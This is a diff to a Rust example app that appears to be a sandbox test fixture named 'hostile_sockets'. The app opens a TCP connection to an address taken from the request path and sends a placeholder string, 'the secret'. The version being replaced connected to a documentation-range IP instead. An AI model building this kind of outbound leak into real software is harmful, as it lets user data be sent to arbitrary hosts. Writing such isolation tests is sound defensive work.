@@ -5,7 +5,9 @@ use domicile_sdk::prelude::*;
 domicile_sdk::app! { manifest: "examples/hostile_sockets.toml", page: handle }
 
 fn handle(request: Request) -> Response {
-    let sent = std::net::TcpStream::connect("203.0.113.1:443")
-        .and_then(|mut stream| std::io::Write::write_all(&mut stream, request.path.as_bytes()));
+    // To whom, it is told: its test listens there.
+    let address = request.path.trim_start_matches('/');
+    let sent = std::net::TcpStream::connect(address)
+        .and_then(|mut stream| std::io::Write::write_all(&mut stream, b"the secret"));
     Response::page("Hello", view! { p { (format!("{sent:?}")) } })
 }
